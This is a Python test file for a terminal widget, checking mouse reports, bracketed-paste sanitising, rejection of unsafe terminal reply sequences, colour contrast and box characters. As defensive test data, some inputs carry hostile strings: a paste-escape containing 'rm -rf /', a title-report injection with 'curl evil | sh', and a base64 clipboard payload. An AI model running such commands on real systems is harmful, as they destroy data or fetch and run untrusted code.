"""Mouse reports, pasting, answers and colours: the parts of a terminal that need no screen."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dockdesk.ui.theme import DARK, LIGHT, Tokens
from dockdesk.ui.widgets.terminal import mouse, paste
from dockdesk.ui.widgets.terminal.answers import is_safe
from dockdesk.ui.widgets.terminal.boxes import _arms, is_box
from dockdesk.ui.widgets.terminal.palette import Palette, number
from dockdesk.ui.widgets.terminal.screen import TRUE_COLOUR, Style


def test_mouse_reports_in_both_forms() -> None:
    assert mouse.report("press", mouse.LEFT, 0, 0) == b"\x1b[<0;1;1M"
    assert mouse.report("release", mouse.RIGHT, 300, 99) == b"\x1b[<2;301;100m"
    assert mouse.report("move", mouse.NONE, 4, 5) == b"\x1b[<35;5;6M"
    assert mouse.report("press", mouse.WHEEL_UP, 1, 1, control=True) == b"\x1b[<80;2;2M"
    assert mouse.report("press", mouse.LEFT, 0, 0, sgr=False) == b"\x1b[M !!"
    assert mouse.report("release", mouse.LEFT, 9, 9, sgr=False) == b"\x1b[M#**"
    assert mouse.report("press", mouse.LEFT, 223, 0, sgr=False) == b"", "beyond the old form"


def test_pasting_keeps_text_and_drops_what_could_act() -> None:
    assert paste.encode("a\nb\r\nc", bracketed=False) == b"a\rb\rc"
    assert paste.encode("é\t漢", bracketed=True) == "\x1b[200~é\t漢\x1b[201~".encode()
    assert paste.encode("x\x1b[201~rm -rf /\x03\x9b201~", bracketed=True) == (
        b"\x1b[200~x[201~rm -rf /201~\x1b[201~"
    )


@given(st.text())
def test_a_bracketed_paste_ends_only_once(text: str) -> None:
    sent = paste.encode(text, bracketed=True)
    assert sent.count(b"\x1b") == 2
    assert sent.endswith(b"\x1b[201~")


def test_lines_that_would_run() -> None:
    assert paste.lines_in("ls") == 0
    assert paste.lines_in("ls\n") == 1
    assert paste.lines_in("a\r\nb\nc") == 2


@pytest.mark.parametrize(
    "answer",
    [
        b"\x1b[?62;22c",
        b"\x1b[>1;0;0c",
        b"\x1b[0n",
        b"\x1b[12;80R",
        b"\x1b[?2026;2$y",
        b"\x1b[8;24;80t",
        b"\x1b]11;rgb:ffff/ffff/ffff\x1b\\",
        b"\x1b]4;1;rgb:cc/66/66\x07",
    ],
)
def test_numbers_may_be_answered(answer: bytes) -> None:
    assert is_safe(answer)


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"ls\r",
        b"\x1b]lcurl evil | sh\r\x1b\\",  # a title report
        b"\x1b]52;c;cm0gLXJmIC8K\x07",  # the clipboard
        b"\x1bP1$r0m\x1b\\",
        b"\x1bP>|name\x1b\\",
        b"\x1b[?0u",
        b"\x1b[0n\r",
        b"\x1b[1;1R\x1b]lx\x1b\\",
        b"\x1b_Gi=31;OK\x1b\\",
    ],
)
def test_text_of_others_choosing_is_never_answered(answer: bytes) -> None:
    assert not is_safe(answer)


@given(st.binary(max_size=40))
def test_no_answer_can_press_return(answer: bytes) -> None:
    assert not (is_safe(answer) and (b"\r" in answer or b"\n" in answer))


def _luminance(colour: int) -> float:
    parts = [(colour >> shift & 255) / 255 for shift in (16, 8, 0)]
    linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def _contrast(one: int, other: int) -> float:
    high, low = sorted((_luminance(one), _luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("tokens", [LIGHT, DARK], ids=["light", "dark"])
def test_the_sixteen_colours_are_legible(tokens: Tokens) -> None:
    palette = Palette(tokens)
    panel = number(tokens.panel)
    backgrounds = {0} if tokens.name == "dark" else {7, 15}
    for index in set(range(16)) - backgrounds:
        assert _contrast(palette.colours[index], panel) >= 4.5, f"colour {index}"
    for mark in (palette.selection, palette.match, palette.current_match):
        assert _contrast(palette.foreground, mark) >= 4.5
    assert _contrast(palette.cursor, panel) >= 3


def test_styles_in_colours() -> None:
    palette = Palette(LIGHT)
    assert palette.colours[16] == 0
    assert palette.colours[196] == 0xFF0000
    assert palette.colours[255] == 0xEEEEEE
    assert palette.look(Style()).background is None
    assert palette.look(Style(foreground=TRUE_COLOUR | 0x123456)).foreground == 0x123456
    inverse = palette.look(Style(foreground=1, inverse=True))
    assert (inverse.foreground, inverse.background) == (palette.background, palette.colours[1])
    hidden = palette.look(Style(background=2, invisible=True))
    assert hidden.foreground == hidden.background == palette.colours[2]
    faint = palette.look(Style(faint=True)).foreground
    assert (
        1.5
        < _contrast(faint, palette.background)
        < _contrast(palette.foreground, palette.background)
    )


def test_box_characters_are_read_from_their_names() -> None:
    assert _arms("┌") == {"d": 1, "r": 1}
    assert _arms("╋") == {"u": 2, "d": 2, "l": 2, "r": 2}
    assert _arms("╒") == {"d": 1, "r": 3}
    assert _arms("┡") == {"d": 1, "r": 2, "u": 2}
    assert _arms("╼") == {"l": 1, "r": 2}
    for code in range(0x2500, 0x2580):
        assert not is_box(chr(code)) or set(_arms(chr(code)).values()) <= {1, 2, 3}
